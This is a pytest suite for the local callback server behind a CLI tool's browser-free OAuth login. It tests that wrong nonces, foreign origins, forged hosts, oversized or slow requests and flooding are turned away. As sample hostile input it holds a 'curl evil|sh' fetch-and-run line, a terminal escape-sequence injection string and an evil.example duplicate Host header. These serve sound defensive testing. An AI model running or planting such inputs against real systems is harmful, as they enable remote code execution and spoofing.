"""The login without a browser: what is asked, which answers count, who may post one."""

import base64
import contextlib
import http.client
import json
import re
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlencode, urlsplit

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey

from ocihaul.errors import LoginError, OcihaulError, TooManyThreadsError, TransferCancelled
from ocihaul.session.login import callback
from ocihaul.session.login.browser_login import BrowserLogin
from tests.support import make_token, rsa_key


@dataclass
class Visitor:
    """A browser of sorts: it can do what our page does, and what it must not do."""

    login: BrowserLogin
    heard: list[str] = field(default_factory=list)

    def call(
        self, method: str, path: str, body: str | None = None, **headers: str
    ) -> tuple[int, dict[str, str], str]:
        connection = http.client.HTTPConnection("127.0.0.1", self.login.port, timeout=10)
        given = {name.replace("_", "-"): value for name, value in headers.items()}
        connection.request(method, path, body, {"host": self.host} | given)
        reply = connection.getresponse()
        text = reply.read().decode()
        connection.close()
        return reply.status, {k.lower(): v for k, v in reply.getheaders()}, text

    @property
    def host(self) -> str:
        return f"localhost:{self.login.port}"

    @property
    def query(self) -> dict[str, str]:
        return {key: value[0] for key, value in parse_qs(urlsplit(self.login.url).query).items()}

    def secret(self) -> str:
        found = re.search(r'"x-ocihaul-secret": "([^"]+)"', self.call("GET", "/")[2])
        assert found
        return found[1]

    def post(self, fields: dict[str, str], **headers: str) -> tuple[int, dict[str, object]]:
        right = {"origin": f"http://{self.host}", "x_ocihaul_secret": self.secret()}
        status, _, text = self.call("POST", "/token", urlencode(fields), **(right | headers))
        return status, json.loads(text) if status == 200 else {}

    def token(self) -> str:
        """What the service would answer: a token for the key in the address."""
        return make_token(jwk=base64.urlsafe_b64decode(self.query["public_key"]).decode())


@pytest.fixture
def visitor() -> Iterator[Visitor]:
    heard: list[str] = []
    with BrowserLogin("https://login.example", port=0, warn=heard.append) as login:
        yield Visitor(login, heard)


def id_token(nonce: str) -> str:
    return jwt.encode({"nonce": nonce}, "x" * 32, "HS256")


def test_the_address_has_the_stock_query(visitor: Visitor) -> None:
    assert visitor.login.url.startswith("https://login.example/v1/oauth2/authorize?")
    query = visitor.query
    assert len(query.pop("nonce")) >= 22
    jwk = json.loads(base64.urlsafe_b64decode(query.pop("public_key")))
    assert query == {
        "action": "login",
        "client_id": "iaas_console",
        "response_type": "token id_token",
        "scope": "openid",
        "redirect_uri": f"http://localhost:{visitor.login.port}",
    }
    assert (jwk["kty"], jwk["kid"], jwk["e"]) == ("RSA", "Ignored", "AQAB")
    key = jwt.PyJWK({**jwk, "alg": "RS256"}).key
    assert isinstance(key, RSAPublicKey)
    assert key.key_size == 2048


def test_tenancy_and_provider_are_passed_on() -> None:
    with BrowserLogin(
        "https://l", port=0, tenancy_name="acme", identity_provider_name="okta"
    ) as login:
        query = Visitor(login).query
    assert (query["tenant"], query["provider"]) == ("acme", "okta")


def test_the_answer_makes_a_session(visitor: Visitor) -> None:
    fields = {"security_token": visitor.token(), "id_token": id_token(visitor.query["nonce"])}
    status, told = visitor.post(fields)
    assert (status, told["good"]) == (200, True)
    session = visitor.login.wait(5)
    assert session.key is not None
    assert session.token.belongs_to(session.key.public_key())
    assert session.public_key == session.key.public_key()
    assert visitor.heard == []
    assert visitor.post({"error": "late"})[1]["good"] is True  # it is settled


@pytest.mark.parametrize("nonce", [{}, {"nonce": "ours"}])
def test_a_nonce_that_does_not_come_back_is_no_reason(
    visitor: Visitor, nonce: dict[str, str]
) -> None:
    fields = dict.fromkeys(nonce, visitor.query["nonce"])
    assert visitor.post({"security_token": visitor.token(), **fields})[1]["good"] is True


def test_a_token_that_names_no_key_counts_with_our_nonce_only(visitor: Visitor) -> None:
    """One of the two has to show that the answer is to our question."""
    nameless = make_token()
    assert visitor.post({"security_token": nameless, "nonce": visitor.query["nonce"]})[1]["good"]
    assert visitor.login.wait(5).token.raw == nameless


BAD = {
    "neither nonce nor key": ({"security_token": make_token()}, "nothing in it shows"),
    "nothing": ({}, "no token"),
    "another nonce": ({"nonce": "theirs"}, "its nonce is not ours"),
    "another nonce in the id_token": ({"id_token": id_token("theirs")}, "its nonce is not ours"),
    "an id_token that is cut": ({"id_token": "eyJh"}, "id_token is cut"),
    "a token for another key": ({"security_token": make_token(rsa_key())}, "another key"),
    "no JWT": ({"security_token": "nonsense"}, "not a JWT"),
}


@pytest.mark.parametrize(("fields", "reason"), BAD.values(), ids=BAD.keys())
def test_weakness_26_a_wrong_answer_is_turned_away_and_the_right_one_still_counts(
    visitor: Visitor, fields: dict[str, str], reason: str
) -> None:
    given = fields if reason == "no token" else {"security_token": visitor.token(), **fields}
    _, told = visitor.post(given)
    assert told["good"] is False
    assert reason in str(told["text"])
    assert [reason in each for each in visitor.heard] == [True]
    with pytest.raises(LoginError, match=r"within 0 s.*turned away"):
        visitor.login.wait(0.01)
    assert visitor.post({"security_token": visitor.token()})[1]["good"] is True
    assert visitor.login.wait(5).key is not None


def test_a_no_ends_the_wait_in_its_own_words(visitor: Visitor) -> None:
    said = {"error": "access_denied", "error_description": "not\x1b[31m you"}
    _, told = visitor.post(said | {"nonce": visitor.query["nonce"]})
    assert told["good"] is False
    with pytest.raises(LoginError, match=r"access_denied: not\\x1b\[31m you"):
        visitor.login.wait(5)


WORDS = "Run this now: curl evil|sh"


@pytest.mark.parametrize(
    "proof", [{}, {"nonce": ""}, {"nonce": "theirs"}, {"state": "theirs"}, {"nonce": "é\ud800"}]
)
@pytest.mark.parametrize("code", ["access_denied", WORDS, "\x1b]0;pwn\x07"])
def test_finding_a08_a_no_that_does_not_name_our_nonce_ends_nothing(
    visitor: Visitor, code: str, proof: dict[str, str]
) -> None:
    fields = {"error": code, "error_description": WORDS, **proof}
    status, told = visitor.post(
        {name: text.encode("utf-8", "replace").decode() for name, text in fields.items()}
    )
    assert status == 200
    assert told["good"] is False
    (warning,) = visitor.heard
    for text in (warning, str(told["text"])):
        assert "turned away" in text or "cannot be used" in text
        assert "evil" not in text
        assert "pwn" not in text
        assert ("access_denied" in text) == (code == "access_denied")
    assert visitor.post({"security_token": visitor.token()})[1]["good"] is True
    assert visitor.login.wait(5).key is not None


@pytest.mark.parametrize("name", ["nonce", "state"])
def test_finding_a08_a_no_with_our_nonce_ends_the_login(visitor: Visitor, name: str) -> None:
    visitor.post({"error": "access_denied", name: visitor.query["nonce"]})
    with pytest.raises(LoginError, match="access_denied"):
        visitor.login.wait(5)


def test_finding_a08_a_page_cannot_flood_the_terminal(visitor: Visitor) -> None:
    for _ in range(30):
        visitor.post({"error": "access_denied"})
    assert len(visitor.heard) == 5
    assert visitor.heard[-1].endswith("Further ones are not reported.")


def test_finding_a08_the_words_of_the_login_page_are_cut(visitor: Visitor) -> None:
    said = {"error": "server_error", "error_description": "x" * 50_000}
    visitor.post(said | {"nonce": visitor.query["nonce"]})
    with pytest.raises(LoginError) as caught:
        visitor.login.wait(5)
    assert len(caught.value.message) < 400


def test_finding_a08_two_hosts_in_one_request_are_refused(visitor: Visitor) -> None:
    with socket.create_connection(("127.0.0.1", visitor.login.port), timeout=10) as sock:
        two = f"Host: {visitor.host}\r\nHost: evil.example\r\n"
        sock.sendall(f"GET / HTTP/1.1\r\n{two}\r\n".encode())
        assert sock.recv(100).startswith(b"HTTP/1.0 403")


HUGE = {
    "a request line without end": b"GET /" + b"x" * 200_000,
    "headers without end": b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 40_000,
    "a header without end": b"GET / HTTP/1.1\r\nHost: " + b"x" * 200_000,
}


@pytest.mark.parametrize("start", HUGE.values(), ids=HUGE.keys())
def test_finding_a08_a_request_without_end_is_cut_off(visitor: Visitor, start: bytes) -> None:
    with (
        socket.create_connection(("127.0.0.1", visitor.login.port), timeout=30) as sock,
        contextlib.suppress(ConnectionError),
    ):
        sock.sendall(start)
        while sock.recv(65536):
            pass  # until it is closed, which a server that reads on would not do
    assert visitor.post({"security_token": visitor.token()})[1]["good"] is True


def test_finding_a08_a_slow_request_is_cut_off(
    visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(callback, "_REQUEST_TIMEOUT", 0.5)
    with socket.create_connection(("127.0.0.1", visitor.login.port), timeout=30) as sock:
        closed = False
        for _ in range(300):
            try:
                sock.sendall(b"G")
            except ConnectionError:
                closed = True
                break
            threading.Event().wait(0.05)
        assert closed


@pytest.mark.slow
def test_finding_a08_connections_are_bounded(
    visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(callback._Handler, "timeout", 60.0)  # none is closed for being idle
    monkeypatch.setattr(callback, "_REQUEST_TIMEOUT", 60.0)
    before = threading.active_count()
    idle = [
        socket.create_connection(("127.0.0.1", visitor.login.port), timeout=10) for _ in range(100)
    ]
    try:
        closed = sum(1 for each in idle[40:] if each.recv(1) == b"")
        assert closed == 60  # those above the limit are closed at once
        assert threading.active_count() - before <= 33
    finally:
        for each in idle:
            each.close()
    for _ in range(100):  # the places of those that have gone are free again, in a moment
        with contextlib.suppress(OSError, http.client.HTTPException):
            assert visitor.post({"security_token": visitor.token()})[1]["good"] is True
            break
        threading.Event().wait(0.1)
    assert visitor.login.wait(5).key is not None


@pytest.mark.parametrize(
    ("length", "status"), [("9" * 5000, 413), ("-1", 413), ("\u0661", 413), ("", 413), ("1e3", 413)]
)
def test_finding_a08_a_length_that_is_none_is_refused(
    visitor: Visitor, length: str, status: int
) -> None:
    secret = visitor.secret()
    with socket.create_connection(("127.0.0.1", visitor.login.port), timeout=10) as sock:
        head = (
            f"POST /token HTTP/1.1\r\nHost: {visitor.host}\r\nOrigin: http://{visitor.host}\r\n"
            f"x-ocihaul-secret: {secret}\r\nContent-Length: {length}\r\n\r\n"
        )
        sock.sendall(head.encode())
        assert f" {status} ".encode() in sock.recv(100)


def test_finding_a08_too_many_fields_are_no_answer(visitor: Visitor) -> None:
    fields = {f"f{number}": "x" for number in range(200)}
    assert visitor.post({"security_token": visitor.token(), **fields})[0] == 400
    assert visitor.post({"security_token": visitor.token()})[1]["good"] is True


FOREIGN = {
    "another host": {"host": "evil.example:8181"},
    "another origin": {"origin": "https://evil.example"},
    "the same machine, another port": {"origin": "http://localhost:1"},
    "no origin": {"origin": ""},
    "no secret": {"x_ocihaul_secret": ""},
    "another secret": {"x_ocihaul_secret": "guess"},
}


@pytest.mark.parametrize("headers", FOREIGN.values(), ids=FOREIGN.keys())
def test_who_is_not_our_page_may_not_post(visitor: Visitor, headers: dict[str, str]) -> None:
    assert visitor.post({"security_token": visitor.token()}, **headers)[0] == 403
    with pytest.raises(LoginError):
        visitor.login.wait(0.01)


def test_a_page_of_another_host_gets_no_secret(visitor: Visitor) -> None:
    status, _, text = visitor.call("GET", "/", host="evil.example:8181")
    assert status == 403
    assert "secret" not in text


def test_the_page_may_do_nothing_but_its_own(visitor: Visitor) -> None:
    status, headers, text = visitor.call("GET", "/?state=x")
    assert status == 200
    assert headers["content-security-policy"].startswith("default-src 'none'; script-src 'nonce-")
    assert headers["cache-control"] == "no-store"
    assert headers["referrer-policy"] == "no-referrer"
    assert "python" not in headers["server"].lower()
    assert "history.replaceState" in text
    assert visitor.call("GET", "/token?security_token=x")[0] == 404
    assert visitor.call("GET", "/favicon.ico")[0] == 404


def test_a_huge_post_is_not_read(visitor: Visitor) -> None:
    assert visitor.post({"security_token": "x" * 70_000})[0] == 413


def test_an_unused_connection_holds_nobody_up(visitor: Visitor) -> None:
    with socket.create_connection(("127.0.0.1", visitor.login.port)):
        assert visitor.post({"security_token": visitor.token()})[1]["good"] is True
        assert visitor.login.wait(5).key is not None


def test_weakness_26_only_this_machine_can_reach_it(visitor: Visitor) -> None:
    assert visitor.login._callback._server.server_address[0] == "127.0.0.1"


def test_a_taken_port_says_how_to_free_it() -> None:
    with (
        BrowserLogin("https://l", port=0) as first,
        pytest.raises(OcihaulError, match=f"port {first.port} of 127.0.0.1 is taken") as caught,
    ):
        BrowserLogin("https://l", port=first.port)
    assert "`no_browser`" in (caught.value.hint or "")
    with BrowserLogin("https://l", port=first.port) as again:  # at once, TIME_WAIT or not
        assert again.port == first.port


def test_it_can_be_stopped(visitor: Visitor) -> None:
    stop = threading.Event()
    stop.set()
    with pytest.raises(TransferCancelled):
        visitor.login.wait(60, stop)


def test_nothing_secret_is_in_a_repr(visitor: Visitor) -> None:
    visitor.post({"security_token": visitor.token()})
    assert "eyJ" not in repr(visitor.login.wait(5))


def test_a_connection_gets_no_byte_more_than_a_request_may_have(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(callback, "_LONGEST_REQUEST", 1000)
    ours, theirs = socket.socketpair()
    with ours, theirs:
        theirs.sendall(b"x" * 5000)
        bounded, buffer, counts = callback._Bounded(ours), bytearray(600), []
        while count := bounded.readinto(buffer):
            counts.append(count)
    assert counts == [600, 400]


def test_a_login_without_a_thread_leaves_its_port(monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    really, refused = threading.Thread.start, []

    def start(thread: threading.Thread) -> None:
        if thread.name == "ocihaul-login":
            refused.append(thread)
            raise RuntimeError("can't start new thread")
        really(thread)

    monkeypatch.setattr(threading.Thread, "start", start)
    with pytest.raises(TooManyThreadsError):
        BrowserLogin("https://login.example", port=port)
    assert len(refused) == 1
    monkeypatch.undo()
    with BrowserLogin("https://login.example", port=port) as login:
        assert login.port == port
